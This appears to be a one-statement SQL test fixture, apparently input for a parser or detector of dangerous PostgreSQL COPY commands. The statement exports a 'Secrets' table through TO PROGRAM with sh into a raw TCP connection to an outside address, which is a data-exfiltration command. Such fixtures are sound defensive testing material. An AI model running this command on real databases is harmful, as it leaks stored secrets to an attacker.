-- tests: quoted table, column list, upper case, dollar-quoted command
COPY public."Secrets" (id, value) TO PROGRAM $$sh -c 'cat > /dev/tcp/198.51.100.7/4444'$$;
